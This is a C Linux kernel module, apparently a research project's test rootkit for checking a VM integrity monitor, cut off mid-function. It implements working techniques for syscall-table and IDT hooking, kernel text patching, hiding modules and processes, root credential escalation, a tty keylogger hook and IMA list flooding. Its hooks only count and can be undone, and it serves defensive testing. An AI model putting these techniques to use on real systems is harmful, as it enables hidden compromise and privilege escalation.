// SPDX-License-Identifier: GPL-2.0
/*
 * avm_rootkit: the project's test rootkit (docs/rootkit.md). It attacks the
 * Mon-VM's kernel from inside, as real malware does, one attack at a time,
 * each switched on and off at run time through /proc/avm_rootkit:
 *
 *   echo 'syscall 1' > /proc/avm_rootkit     (0 switches it off again)
 *   echo 'hide_pid 123' > /proc/avm_rootkit  (hide_pid 0: unhide)
 *   echo 'hide_tid 124' > /proc/avm_rootkit  (hide_tid 0: relink)
 *   echo 'hide_tid_count 124' > /proc/avm_rootkit  (hide_tid_count 0: relink)
 *   echo 'vanish_pid 123' > /proc/avm_rootkit  (vanish_pid 0: restore)
 *   echo 'vanish_cg_pid 123' > /proc/avm_rootkit  (vanish_cg_pid 0: restore)
 *   echo 'vanish_va_pid 123' > /proc/avm_rootkit  (vanish_va_pid 0: restore)
 *   echo 'root_pid 123' > /proc/avm_rootkit  (root_pid 0: restore)
 *   echo 'euid_pid 123' > /proc/avm_rootkit  (euid_pid 0: restore)
 *   echo 'adopt_pid 123' > /proc/avm_rootkit (adopt_pid 0: restore)
 *   echo 'adopt_exe_pid 123' > /proc/avm_rootkit (adopt_exe_pid 0: restore)
 *   echo 'reparent_pid 123' > /proc/avm_rootkit  (reparent_pid 0: restore)
 *   echo 'untree_pid 123' > /proc/avm_rootkit    (untree_pid 0: relink)
 *   echo 'ima_flood 60000' > /proc/avm_rootkit   (entries stay: no "off")
 *   cat /proc/avm_rootkit                    (one "name value" line each)
 *
 * Attacks: syscall (sys_call_table[__NR_getpid] -> a module function that
 * calls the real handler), idt (gate 0x1d, #VC, -> a module stub that jumps
 * to the real handler), text (one byte of __x64_sys_kexec_load after its
 * fentry site), rodata (one letter of a BTF type name changes case), fops
 * (tcp_prot.init -> a module wrapper that counts and calls the original),
 * keylog (n_tty_ops.receive_buf2, the line discipline every terminal's input
 * goes through, -> a module wrapper that counts the bytes and calls the
 * original; tty_ldiscs[N_TTY] itself stays as it was), nf_hook (a netfilter
 * hook on IPv4 PRE_ROUTING in init_net, registered with
 * nf_register_net_hook, counting packets; seen by the A-VM once the module
 * also hides: a hook into a listed module's text is that module's),
 * nf_hook_netns (the same in the network namespace of the process that
 * writes the command, e.g. under `unshare -n`: a container's; the status
 * shows that namespace's inode number, what /proc/PID/ns/net names),
 * nf_hook_ingress (the same hook among the ingress hooks of init_net's
 * loopback device, NFPROTO_NETDEV: where a per-device backdoor sits),
 * hide_netns (the writer's network namespace unlinked from
 * net_namespace_list, held by the module until relinked; the status shows
 * its inode number),
 * hide_module (THIS_MODULE unlinked from the module list), hide_pid (a
 * task unlinked from the task list), hide_tid (a thread unlinked from its
 * group's thread list, signal->nr_threads left), hide_tid_count (the
 * same, and signal->nr_threads lowered by one: only the PID table still
 * has the thread), root_pid (a task's cred ids set to 0),
 * euid_pid (a task's euid and fsuid alone set to 0, its real uid left: what
 * the exec of a set-uid root program makes),
 * adopt_pid (a task given a whole new root cred, a copy of init's: ids 0
 * and root's account, what prepare_kernel_cred-style rootkits hand out;
 * its old cred kept to put back), adopt_exe_pid (the same, and its
 * executable's struct file made to look opened with that cred: f_cred,
 * what the exec's caller's credentials are read from),
 * reparent_pid (a task's real_parent pointed at init, the task left on its
 * parent's children list: what hides a root process under a user's from a
 * check of real_parent), untree_pid (a task taken off its parent's children
 * list, left on the task list), ima_flood (N valid entries linked into the
 * IMA measurement list at once: work for the A-VM, which anchors each).
 * Each "off" writes back exactly what "on" saved. Only ever loaded into the
 * test Mon-VM.
 *
 * Kernel symbols that are not exported are found with kallsyms_lookup_name,
 * whose address is the module parameter kln (read by the loader from
 * /proc/kallsyms); without it the module finds it with a kprobe.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/init.h>
#include <linux/kprobes.h>
#include <linux/proc_fs.h>
#include <linux/uaccess.h>
#include <linux/mutex.h>
#include <linux/slab.h>
#include <linux/vmalloc.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/cred.h>
#include <linux/pid.h>
#include <linux/err.h>
#include <linux/btf.h>
#include <linux/irqflags.h>
#include <linux/version.h>
#include <linux/tty.h>
#include <linux/tty_ldisc.h>
#include <net/sock.h>
#include <net/tcp.h>
#include <net/net_namespace.h>
#include <linux/nsproxy.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <asm/desc.h>
#include <asm/unistd.h>
#include <asm/special_insns.h>
#include <asm/processor-flags.h>
#include <asm/ptrace.h>
#include <asm/nospec-branch.h>

MODULE_LICENSE("GPL");
MODULE_AUTHOR("avm project");
MODULE_DESCRIPTION("Test rootkit for the A-VM's Mon-VM (never load elsewhere)");

static unsigned long kln;
module_param(kln, ulong, 0400);
MODULE_PARM_DESC(kln, "address of kallsyms_lookup_name (from /proc/kallsyms); 0: find it with a kprobe");

static char *text_sym = "__x64_sys_kexec_load";
module_param(text_sym, charp, 0400);
MODULE_PARM_DESC(text_sym, "function whose first body byte the text attack changes");

typedef unsigned long (*kln_t)(const char *name);
static kln_t lookup;

static DEFINE_MUTEX(rk_lock);

/* ---- writing read-only kernel memory: CR0.WP cleared, interrupts off ---- */

static inline void rk_write_cr0(unsigned long val)
{
	/* Not write_cr0(): the kernel pins WP and would set it again. */
	asm volatile("mov %0, %%cr0" : "+r"(val) : : "memory");
}

static void rk_write_ro(void *dst, const void *src, size_t len)
{
	unsigned long flags, cr0;

	preempt_disable();
	local_irq_save(flags);
	cr0 = read_cr0();
	rk_write_cr0(cr0 & ~X86_CR0_WP);
	memcpy(dst, src, len);
	rk_write_cr0(cr0);
	local_irq_restore(flags);
	preempt_enable();
}

/* ---- (a) syscall: sys_call_table[__NR_getpid] -> hook_getpid ---- */

typedef long (*syscall_fn_t)(const struct pt_regs *regs);
static syscall_fn_t *sct;
static syscall_fn_t orig_getpid;
static bool syscall_on;
static atomic_t getpid_calls = ATOMIC_INIT(0);

static long hook_getpid(const struct pt_regs *regs)
{
	atomic_inc(&getpid_calls);
	return orig_getpid(regs);
}

static int set_syscall(bool on)
{
	syscall_fn_t val;

	if (on == syscall_on)
		return 0;
	if (!sct)
		return -ENOENT;
	if (on) {
		orig_getpid = READ_ONCE(sct[__NR_getpid]);
		val = hook_getpid;
	} else {
		val = orig_getpid;
	}
	rk_write_ro(&sct[__NR_getpid], &val, sizeof(val));
	syscall_on = on;
	return 0;
}

/* ---- (b) idt: gate 0x1d (#VC) -> rk_vc_stub, which jumps to the real one ---- */

#define RK_VECTOR 0x1d
#ifdef CONFIG_X86_KERNEL_IBT
#define RK_ENDBR "	endbr64\n"
#else
#define RK_ENDBR ""
#endif
unsigned long rk_orig_vc;
void rk_vc_stub(void);
asm(".pushsection .text\n"
    ".globl rk_vc_stub\n"
    ".type rk_vc_stub, @function\n"
    "rk_vc_stub:\n"
    RK_ENDBR
    ANNOTATE_RETPOLINE_SAFE
    "	jmp *rk_orig_vc(%rip)\n"
    "	int3\n"
    ".size rk_vc_stub, .-rk_vc_stub\n"
    ".popsection\n");

static gate_desc *idt;
static gate_desc saved_gate;
static bool idt_on;

static int set_idt(bool on)
{
	gate_desc g;
	unsigned long target = (unsigned long)rk_vc_stub;

	if (on == idt_on)
		return 0;
	if (!idt)
		return -ENOENT;
	if (on) {
		saved_gate = idt[RK_VECTOR];
		if (!saved_gate.bits.p)
			return -ENODEV;
		rk_orig_vc = gate_offset(&saved_gate);
		g = saved_gate;
		g.offset_low = (u16)target;
		g.offset_middle = (u16)(target >> 16);
		g.offset_high = (u32)(target >> 32);
		rk_write_ro(&idt[RK_VECTOR], &g, sizeof(g));
	} else {
		rk_write_ro(&idt[RK_VECTOR], &saved_gate, sizeof(saved_gate));
	}
	idt_on = on;
	return 0;
}

/* ---- (c) text: the first byte after the fentry site of text_sym ---- */

static u8 *text_byte;
static u8 text_saved;
static bool text_on;

static u8 *find_text_byte(unsigned long fn)
{
	u8 *p = (u8 *)fn;
	static const u8 endbr[4] = { 0xf3, 0x0f, 0x1e, 0xfa };
	static const u8 nop5[5] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };

	if (!fn)
		return NULL;
	/* endbr64 (6.12, IBT), or its sealed form (a 4-byte NOP) */
	if (!memcmp(p, endbr, 4) || (p[0] == 0x0f && p[1] == 0x1f && p[2] == 0x40 && p[3] == 0x00))
		p += 4;
	/* the fentry site: its 5-byte NOP, or a call while traced */
	if (!memcmp(p, nop5, 5) || p[0] == 0xe8)
		p += 5;
	else
		return NULL;
	return p;
}

static int set_text(bool on)
{
	u8 val;

	if (on == text_on)
		return 0;
	if (!text_byte)
		return -ENOENT;
	if (on) {
		text_saved = READ_ONCE(*text_byte);
		val = text_saved ^ 0x01;
	} else {
		val = text_saved;
	}
	rk_write_ro(text_byte, &val, 1);
	text_on = on;
	return 0;
}

/* ---- (d) rodata: one letter of a BTF type name in the middle of .BTF ---- */

static u8 *rodata_byte;
static u8 rodata_saved;
static bool rodata_on;

static u8 *find_rodata_byte(unsigned long start, unsigned long stop)
{
	const struct btf_header *h = (const struct btf_header *)start;
	u8 *s, *end;

	if (!start || !stop || stop - start < sizeof(*h) || h->magic != BTF_MAGIC)
		return NULL;
	s = (u8 *)start + h->hdr_len + h->str_off;
	end = s + h->str_len;
	if ((unsigned long)end > stop)
		return NULL;
	for (s += h->str_len / 2; s < end; s++)
		if (*s >= 'a' && *s <= 'z')
			return s;
	return NULL;
}

static int set_rodata(bool on)
{
	u8 val;

	if (on == rodata_on)
		return 0;
	if (!rodata_byte)
		return -ENOENT;
	if (on) {
		rodata_saved = READ_ONCE(*rodata_byte);
		val = rodata_saved ^ 0x20; /* the letter's case */
	} else {
		val = rodata_saved;
	}
	rk_write_ro(rodata_byte, &val, 1);
	rodata_on = on;
	return 0;
}

/* ---- (e) fops: tcp_prot.init (struct proto in writable .data) ---- */

static int (*orig_tcp_init)(struct sock *sk);
static atomic_t tcp_init_calls = ATOMIC_INIT(0);
static bool fops_on;

static int hook_tcp_init(struct sock *sk)
{
	atomic_inc(&tcp_init_calls);
	return orig_tcp_init(sk);
}

static int set_fops(bool on)
{
	if (on == fops_on)
		return 0;
	if (on) {
		orig_tcp_init = READ_ONCE(tcp_prot.init);
		WRITE_ONCE(tcp_prot.init, hook_tcp_init);
	} else {
		WRITE_ONCE(tcp_prot.init, orig_tcp_init);
	}
	fops_on = on;
	return 0;
}

/* ---- (e') keylog: n_tty_ops.receive_buf2 (a structure in writable .data
 * that tty_ldiscs[N_TTY] points at; the entry itself is left alone) ---- */

#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 6, 0)
typedef size_t rb2_ret_t;
typedef const u8 rb2_cp_t;
typedef const u8 rb2_fp_t;
typedef size_t rb2_count_t;
#else
typedef int rb2_ret_t;
typedef const unsigned char rb2_cp_t;
typedef const char rb2_fp_t;
typedef int rb2_count_t;
#endif

static struct tty_ldisc_ops *n_tty_ops_p;
static rb2_ret_t (*orig_receive_buf2)(struct tty_struct *, rb2_cp_t *, rb2_fp_t *, rb2_count_t);
static atomic_t tty_bytes_seen = ATOMIC_INIT(0);
static bool keylog_on;

/* Counts what is typed (a real keylogger would keep it) and passes it on. */
static rb2_ret_t hook_receive_buf2(struct tty_struct *tty, rb2_cp_t *cp, rb2_fp_t *fp,
				   rb2_count_t count)
{
	atomic_add((int)count, &tty_bytes_seen);
	return orig_receive_buf2(tty, cp, fp, count);
}

static int set_keylog(bool on)
{
	if (on == keylog_on)
		return 0;
	if (!n_tty_ops_p)
		return -ENOENT;
	if (on) {
		orig_receive_buf2 = READ_ONCE(n_tty_ops_p->receive_buf2);
		if (!orig_receive_buf2)
			return -ENOENT;
		WRITE_ONCE(n_tty_ops_p->receive_buf2, hook_receive_buf2);
	} else {
		WRITE_ONCE(n_tty_ops_p->receive_buf2, orig_receive_buf2);
	}
	keylog_on = on;
	return 0;
}

/* ---- (e'') nf_hook: a netfilter hook on IPv4 PRE_ROUTING in init_net,
 * registered through the kernel's own API (where a "magic packet" backdoor
 * sits); it counts packets and accepts them all ---- */

static atomic_t nf_packets_seen = ATOMIC_INIT(0);
static bool nf_hook_on;

static unsigned int hook_nf(void *priv, struct sk_buff *skb, const struct nf_hook_state *state)
{
	atomic_inc(&nf_packets_seen);
	return NF_ACCEPT;
}

static struct nf_hook_ops rk_nf_ops = {
	.hook = hook_nf,
	.pf = NFPROTO_IPV4,
	.hooknum = NF_INET_PRE_ROUTING,
	.priority = NF_IP_PRI_FIRST,
};

static int set_nf_hook(bool on)
{
	int err;

	if (on == nf_hook_on)
		return 0;
	if (on) {
		err = nf_register_net_hook(&init_net, &rk_nf_ops);
		if (err)
			return err;
	} else {
		nf_unregister_net_hook(&init_net, &rk_nf_ops);
	}
	nf_hook_on = on;
	return 0;
}

/* The same hook in another network namespace: the writer's, kept alive
 * by the module's reference until the hook is switched off. */

static struct net *nf_hook_net;

static struct nf_hook_ops rk_nf_ns_ops = {
	.hook = hook_nf,
	.pf = NFPROTO_IPV4,
	.hooknum = NF_INET_PRE_ROUTING,
	.priority = NF_IP_PRI_FIRST,
};

static int set_nf_hook_netns(bool on)
{
	struct net *net;
	int err;

	if (on == !!nf_hook_net)
		return 0;
	if (!on) {
		nf_unregister_net_hook(nf_hook_net, &rk_nf_ns_ops);
		put_net(nf_hook_net);
		nf_hook_net = NULL;
		return 0;
	}
	net = get_net(current->nsproxy->net_ns);
	if (net == &init_net) {
		put_net(net);
		return -EINVAL;
	}
	err = nf_register_net_hook(net, &rk_nf_ns_ops);
	if (err) {
		put_net(net);
		return err;
	}
	nf_hook_net = net;
	return 0;
}

/* The same hook on init_net's loopback device's ingress, held by the
 * module's reference to the device until switched off. */

static struct nf_hook_ops rk_nf_ingress_ops = {
	.hook = hook_nf,
	.pf = NFPROTO_NETDEV,
	.hooknum = NF_NETDEV_INGRESS,
	.priority = 0,
};

static int set_nf_hook_ingress(bool on)
{
	struct net_device *dev;
	int err;

	if (on == !!rk_nf_ingress_ops.dev)
		return 0;
	if (!on) {
		nf_unregister_net_hook(&init_net, &rk_nf_ingress_ops);
		dev_put(rk_nf_ingress_ops.dev);
		rk_nf_ingress_ops.dev = NULL;
		return 0;
	}
	dev = dev_get_by_name(&init_net, "lo");
	if (!dev)
		return -ENODEV;
	rk_nf_ingress_ops.dev = dev;
	err = nf_register_net_hook(&init_net, &rk_nf_ingress_ops);
	if (err) {
		rk_nf_ingress_ops.dev = NULL;
		dev_put(dev);
		return err;
	}
	return 0;
}

/* The writer's network namespace unlinked from the kernel's list of them
 * (what would hide its hooks from a walk of the list); the module's
 * reference keeps the namespace from being torn down while it is off the
 * list. */

static struct net *hidden_net;

static int set_hide_netns(bool on)
{
	struct net *net;

	if (on == !!hidden_net)
		return 0;
	if (!on) {
		down_write(&net_rwsem);
		list_add_tail_rcu(&hidden_net->list, &net_namespace_list);
		up_write(&net_rwsem);
		put_net(hidden_net);
		hidden_net = NULL;
		return 0;
	}
	net = get_net(current->nsproxy->net_ns);
	if (net == &init_net) {
		put_net(net);
		return -EINVAL;
	}
	down_write(&net_rwsem);
	list_del_rcu(&net->list);
	up_write(&net_rwsem);
	synchronize_rcu();
	hidden_net = net;
	return 0;
}

/* ---- (f) hide_module: THIS_MODULE unlinked from the module list ---- */

static struct mutex *module_mutex_p;
static struct list_head *modules_p;
static struct list_head *mod_prev;
static bool module_hidden;

static int set_hide_module(bool on)
{
	struct list_head *pos;
	bool prev_linked = false;

	if (on == module_hidden)
		return 0;
	if (!module_mutex_p || !modules_p)
		return -ENOENT;
	mutex_lock(module_mutex_p);
	if (on) {
		mod_prev = THIS_MODULE->list.prev;
		list_del_rcu(&THIS_MODULE->list);
	} else {
		/* back after the module that preceded it, if it is still loaded */
		if (mod_prev == modules_p) {
			prev_linked = true;
		} else {
			list_for_each(pos, modules_p)
				if (pos == mod_prev)
					prev_linked = true;
		}
		list_add_rcu(&THIS_MODULE->list, prev_linked ? mod_prev : modules_p);
	}
	module_hidden = on;
	mutex_unlock(module_mutex_p);
	if (on)
		synchronize_rcu();
	return 0;
}

/* ---- (g) hide_pid: a task unlinked from the task list ---- */

static rwlock_t *tasklist_lock_p;
static struct task_struct *hidden_task;

static struct task_struct *get_task(pid_t nr)
{
	struct pid *pid = find_get_pid(nr);
	struct task_struct *t;

	if (!pid)
		return NULL;
	t = get_pid_task(pid, PIDTYPE_PID);
	put_pid(pid);
	return t;
}

/* The thread-group leader of PID nr (not init), referenced; else ERR_PTR. */
static struct task_struct *get_leader(pid_t nr)
{
	struct task_struct *t = get_task(nr);

	if (!t)
		return ERR_PTR(-ESRCH);
	if (!thread_group_leader(t) || t->pid <= 1) {
		put_task_struct(t);
		return ERR_PTR(-EINVAL);
	}
	return t;
}

static void unhide_task(void)
{
	struct task_struct *t = hidden_task, *p;

	if (!t)
		return;
	write_lock_irq(tasklist_lock_p);
	if (pid_alive(t)) {
		/* its place in fork order: before the first task started after it */
		for_each_process(p)
			if (p->start_time > t->start_time)
				break;
		list_add_tail_rcu(&t->tasks, &p->tasks);
	}
	write_unlock_irq(tasklist_lock_p);
	hidden_task = NULL;
	put_task_struct(t);
}

static int hide_task(pid_t nr)
{
	struct task_struct *t;
	int err = 0;

	if (!tasklist_lock_p)
		return -ENOENT;
	unhide_task();
	if (nr <= 0)
		return 0;
	t = get_leader(nr);
	if (IS_ERR(t))
		return PTR_ERR(t);
	/*
	 * Unlink its neighbours from it (its own pointers stay valid for RCU
	 * readers standing on it); once no reader can be on it any more, point
	 * it at itself, so that its exit while hidden unlinks nothing else.
	 */
	write_lock_irq(tasklist_lock_p);
	if (!pid_alive(t)) {
		err = -ESRCH;
	} else {
		t->tasks.prev->next = t->tasks.next;
		t->tasks.next->prev = t->tasks.prev;
	}
	write_unlock_irq(tasklist_lock_p);
	if (err) {
		put_task_struct(t);
		return err;
	}
	synchronize_rcu();
	write_lock_irq(tasklist_lock_p);
	if (pid_alive(t))
		INIT_LIST_HEAD(&t->tasks);
	write_unlock_irq(tasklist_lock_p);
	hidden_task = t;
	return 0;
}

/* ---- (g') hide_tid: a thread unlinked from its group's thread list ---- */

static struct task_struct *hidden_thread;
/* Whether signal->nr_threads was lowered with the unlink (hide_tid_count). */
static bool hidden_thread_uncounted;

static void unhide_thread(void)
{
	struct task_struct *t = hidden_thread;

	if (!t)
		return;
	write_lock_irq(tasklist_lock_p);
	if (pid_alive(t)) {
		list_add_tail_rcu(&t->thread_node, &t->signal->thread_head);
		if (hidden_thread_uncounted)
			t->signal->nr_threads++;
	}
	write_unlock_irq(tasklist_lock_p);
	hidden_thread = NULL;
	hidden_thread_uncounted = false;
	put_task_struct(t);
}

/*
 * As hide_task, on thread_node; with uncount, signal->nr_threads lowered
 * too (else left as it was).
 */
static int hide_thread(pid_t nr, bool uncount)
{
	struct task_struct *t;
	int err = 0;

	if (!tasklist_lock_p)
		return -ENOENT;
	unhide_thread();
	if (nr <= 0)
		return 0;
	t = get_task(nr);
	if (!t)
		return -ESRCH;
	if (thread_group_leader(t)) {
		put_task_struct(t);
		return -EINVAL;
	}
	write_lock_irq(tasklist_lock_p);
	if (!pid_alive(t)) {
		err = -ESRCH;
	} else {
		t->thread_node.prev->next = t->thread_node.next;
		t->thread_node.next->prev = t->thread_node.prev;
		if (uncount)
			t->signal->nr_threads--;
	}
	write_unlock_irq(tasklist_lock_p);
	if (err) {
		put_task_struct(t);
		return err;
	}
	synchronize_rcu();
	write_lock_irq(tasklist_lock_p);
	if (pid_alive(t))
		INIT_LIST_HEAD(&t->thread_node);
	write_unlock_irq(tasklist_lock_p);
	hidden_thread = t;
	hidden_thread_uncounted = uncount;
	return 0;
}

/* ---- (h) root_pid: a task's cred ids overwritten with 0 ---- */

struct rk_ids {
	kuid_t uid, suid, euid, fsuid;
	kgid_t gid, sgid, egid, fsgid;
};

static struct cred *rooted_cred;
static struct rk_ids rooted_saved;
static pid_t rooted_pid;
static bool rooted_euid_only;

static void unroot(void)
{
	struct cred *c = rooted_cred;

	if (!c)
		return;
	c->uid = rooted_saved.uid;
	c->suid = rooted_saved.suid;
	c->euid = rooted_saved.euid;
	c->fsuid = rooted_saved.fsuid;
	c->gid = rooted_saved.gid;
	c->sgid = rooted_saved.sgid;
	c->egid = rooted_saved.egid;
	c->fsgid = rooted_saved.fsgid;
	rooted_cred = NULL;
	rooted_pid = 0;
	put_cred(c);
}

static int root_task(pid_t nr, bool euid_only)
{
	struct task_struct *t;
	struct cred *c;

	unroot();
	if (nr <= 0)
		return 0;
	t = get_task(nr);
	if (!t)
		return -ESRCH;
	rcu_read_lock();
	c = (struct cred *)get_cred(rcu_dereference(t->cred));
	rcu_read_unlock();
	put_task_struct(t);
	rooted_saved = (struct rk_ids){ c->uid, c->suid, c->euid, c->fsuid,
					c->gid, c->sgid, c->egid, c->fsgid };
	if (euid_only) {
		c->euid = c->fsuid = GLOBAL_ROOT_UID;
	} else {
		c->uid = c->suid = c->euid = c->fsuid = GLOBAL_ROOT_UID;
		c->gid = c->sgid = c->egid = c->fsgid = GLOBAL_ROOT_GID;
	}
	rooted_euid_only = euid_only;
	rooted_cred = c;
	rooted_pid = nr;
	return 0;
}

/* ---- (h2) adopt_pid: a task given a new cred, a copy of init's ---- */

static struct task_struct *adopted_task;
static const struct cred *adopted_cred, *adopted_real_cred, *adopting_cred;
/* adopt_exe_pid: the executable's file (held) and its f_cred before */
static struct file *adopted_exe;
static const struct cred *adopted_exe_cred;

static void unadopt(void)
{
	struct task_struct *t = adopted_task;

	if (adopted_exe) {
		const struct cred *now = adopted_exe->f_cred;

		*(const struct cred **)&adopted_exe->f_cred = adopted_exe_cred;
		put_cred(now);
		fput(adopted_exe);
		adopted_exe = NULL;
	}
	if (!t)
		return;
	task_lock(t);
	/* an exited task has put the new cred itself and holds none */
	if (pid_alive(t) && rcu_access_pointer(t->cred) == adopting_cred) {
		rcu_assign_pointer(t->real_cred, adopted_real_cred);
		rcu_assign_pointer(t->cred, adopted_cred);
		task_unlock(t);
		synchronize_rcu();
		put_cred(adopting_cred);
		put_cred(adopting_cred);
	} else {
		task_unlock(t);
		put_cred(adopted_real_cred);
		put_cred(adopted_cred);
	}
	put_task_struct(t);
	adopted_task = NULL;
}

static int adopt_task(pid_t nr, bool exe)
{
	struct task_struct *t;
	struct cred *new;

	unadopt();
	if (nr <= 0)
		return 0;
	t = get_task(nr);
	if (!t)
		return -ESRCH;
	/* ids 0, root's account and groups: init's, at another address */
	new = prepare_kernel_cred(&init_task);
	if (!new) {
		put_task_struct(t);
		return -ENOMEM;
	}
	task_lock(t);
	/* the task's references to its old creds are kept for the restore */
	adopted_real_cred = rcu_dereference_protected(t->real_cred, 1);
	adopted_cred = rcu_dereference_protected(t->cred, 1);
	adopting_cred = new;
	get_cred(new);
	rcu_assign_pointer(t->real_cred, new);
	rcu_assign_pointer(t->cred, new);
	if (exe && t->mm) {
		/* the exec's caller's credentials, as the file keeps them */
		struct file *f = rcu_dereference_protected(t->mm->exe_file, 1);

		if (f) {
			adopted_exe = get_file(f);
			adopted_exe_cred = f->f_cred;
			*(const struct cred **)&f->f_cred = get_cred(new);
		}
	}
	task_unlock(t);
	adopted_task = t;
	return 0;
}

/* ---- (i) reparent_pid: real_parent pointed at init, children untouched ---- */

static struct task_struct *reparented_task, *reparented_from;

static void restore_parent(void)
{
	struct task_struct *t = reparented_task;

	if (!t)
		return;
	write_lock_irq(tasklist_lock_p);
	/* the parent is held: the test ends neither while reparented */
	if (pid_alive(t))
		t->real_parent = reparented_from;
	write_unlock_irq(tasklist_lock_p);
	put_task_struct(reparented_from);
	put_task_struct(t);
	reparented_task = reparented_from = NULL;
}

static int reparent_task(pid_t nr)
{
	struct task_struct *t, *init;
	int err = 0;

	if (!tasklist_lock_p)
		return -ENOENT;
	restore_parent();
	if (nr <= 0)
		return 0;
	t = get_leader(nr);
	if (IS_ERR(t))
		return PTR_ERR(t);
	init = get_task(1);
	if (!init) {
		put_task_struct(t);
		return -ESRCH;
	}
	write_lock_irq(tasklist_lock_p);
	if (!pid_alive(t)) {
		err = -ESRCH;
	} else {
		reparented_from = t->real_parent;
		get_task_struct(reparented_from);
		t->real_parent = init;
	}
	write_unlock_irq(tasklist_lock_p);
	put_task_struct(init);
	if (err) {
		put_task_struct(t);
		return err;
	}
	reparented_task = t;
	return 0;
}

/* ---- (j) untree_pid: a task taken off its parent's children list ---- */

static struct task_struct *untreed_task;

static void retree_task(void)
{
	struct task_struct *t = untreed_task;

	if (!t)
		return;
	write_lock_irq(tasklist_lock_p);
	if (pid_alive(t))
		list_add_tail(&t->sibling, &t->real_parent->children);
	write_unlock_irq(tasklist_lock_p);
	untreed_task = NULL;
	put_task_struct(t);
}

static int untree_task(pid_t nr)
{
	struct task_struct *t;
	int err = 0;

	if (!tasklist_lock_p)
		return -ENOENT;
	retree_task();
	if (nr <= 0)
		return 0;
	t = get_leader(nr);
	if (IS_ERR(t))
		return PTR_ERR(t);
	/* the children lists are only walked under tasklist_lock */
	write_lock_irq(tasklist_lock_p);
	if (pid_alive(t))
		list_del_init(&t->sibling);
	else
		err = -ESRCH;
	write_unlock_irq(tasklist_lock_p);
	if (err) {
		put_task_struct(t);
		return err;
	}
	untreed_task = t;
	return 0;
}

/*
 * ---- (k) vanish_pid: a process off every list: the task list (as
 * hide_pid), its parent's children (as untree_pid) and the PID table
 * (its struct pid replaced by NULL at its number in every namespace, as
 * alloc_pid leaves a number it has not filled yet) ----
 * vanish_cg_pid: the same, and the task off its cgroup's task list too
 * (cg_list, under css_set_lock): off every list the kernel keeps of its
 * tasks; a sleeping one is left only its kernel stack.
 * vanish_va_pid: the same, and the stack's vmalloc area taken off the
 * kernel's list of busy areas (vmap_area_list on 6.1, its node's busy
 * list on 6.12; /proc/vmallocinfo no longer shows it): the stack is left
 * only in the page tables, where the task needs it to run again. The
 * area stays in the address tree, so the stack is freed as ever when the
 * task ends; it is not put back on the list on restore (its neighbours
 * may have been freed meanwhile). The test Mon-VM has one CPU: with
 * interrupts off nothing else walks or changes the list (a rootkit on
 * more CPUs takes the list's lock).
 */

static struct task_struct *vanished_task;
static bool vanished_cg;
static bool vanished_va;
typedef struct vmap_area *(*find_vmap_area_t)(unsigned long addr);
static find_vmap_area_t find_vmap_area_p;

/* The stack's area of `t` off the busy list. */
static int unlist_stack_area(struct task_struct *t)
{
	struct vmap_area *va;
	unsigned long flags;

	if (!find_vmap_area_p)
		return -ENOENT;
	va = find_vmap_area_p((unsigned long)t->stack);
	if (!va || va->va_start != (unsigned long)t->stack)
		return -ESRCH;
	local_irq_save(flags);
	list_del_init(&va->list);
	local_irq_restore(flags);
	return 0;
}
static spinlock_t *pidmap_lock_p;
static spinlock_t *css_set_lock_p;

/* The vanished task back on (or off) its css_set's task list. */
static void set_cg_entry(struct task_struct *t, bool present)
{
	spin_lock_irq(css_set_lock_p);
	if (!present)
		list_del_init(&t->cg_list);
	else if (pid_alive(t) && list_empty(&t->cg_list))
		list_add_tail(&t->cg_list, &rcu_dereference_protected(t->cgroups, 1)->tasks);
	spin_unlock_irq(css_set_lock_p);
}

static void set_pid_entries(struct task_struct *t, bool present)
{
	struct pid *pid = task_pid(t);
	unsigned int i;

	if (!pid)
		return;
	spin_lock_irq(pidmap_lock_p);
	for (i = 0; i <= pid->level; i++)
		idr_replace(&pid->numbers[i].ns->idr, present ? pid : NULL, pid->numbers[i].nr);
	spin_unlock_irq(pidmap_lock_p);
}

static int vanish_task(pid_t nr, bool cgroup, bool area)
{
	struct task_struct *t;
	int err;

	if (!pidmap_lock_p || (cgroup && !css_set_lock_p) || (area && !find_vmap_area_p))
		return -ENOENT;
	if (vanished_task) {
		if (vanished_cg)
			set_cg_entry(vanished_task, true);
		vanished_cg = false;
		vanished_va = false;
		if (pid_alive(vanished_task))
			set_pid_entries(vanished_task, true);
		put_task_struct(vanished_task);
		vanished_task = NULL;
		untree_task(0);
		hide_task(0);
	}
	if (nr <= 0)
		return 0;
	t = get_task(nr);
	if (!t)
		return -ESRCH;
	err = hide_task(nr);
	if (!err)
		err = untree_task(nr);
	if (err) {
		hide_task(0);
		put_task_struct(t);
		return err;
	}
	set_pid_entries(t, false);
	vanished_task = t;
	if (cgroup) {
		set_cg_entry(t, false);
		vanished_cg = true;
	}
	if (area) {
		err = unlist_stack_area(t);
		if (err) {
			vanish_task(0, false, false);
			return err;
		}
		vanished_va = true;
	}
	return 0;
}

/*
 * ---- (l) ima_flood: N entries linked into the IMA measurement list at
 * once, each a copy of the newest genuine one (same template, so its
 * template hash is valid and the A-VM anchors it: one TPM extend each).
 * What a rootkit does to keep the A-VM busy anchoring while the verdict
 * on unmeasured processes waits for the whole list. There is no "off":
 * IMA entries are never removed (removing them is itself a violation);
 * they stay, and are never freed, also after rmmod ----
 */

/* security/integrity/ima/ima.h, the same on 6.1 and 6.12 */
struct rk_ima_queue_entry {
	struct hlist_node hnext;
	struct list_head later;
	void *entry;
};

#define RK_MAX_FLOOD 200000
static struct list_head *ima_measurements_p;
static struct mutex *ima_extend_list_mutex_p;
static long ima_flooded;

static int ima_flood(long n)
{
	struct rk_ima_queue_entry *last, *qe;
	long i;

	if (!ima_measurements_p)
		return -ENOENT;
	if (n <= 0)
		return 0;
	if (n > RK_MAX_FLOOD)
		return -EINVAL;
	if (ima_extend_list_mutex_p)
		mutex_lock(ima_extend_list_mutex_p);
	if (list_empty(ima_measurements_p)) {
		if (ima_extend_list_mutex_p)
			mutex_unlock(ima_extend_list_mutex_p);
		return -ENOENT;
	}
	last = list_last_entry(ima_measurements_p, struct rk_ima_queue_entry, later);
	for (i = 0; i < n; i++) {
		qe = kmalloc(sizeof(*qe), GFP_KERNEL);
		if (!qe)
			break;
		INIT_HLIST_NODE(&qe->hnext);
		qe->entry = last->entry;
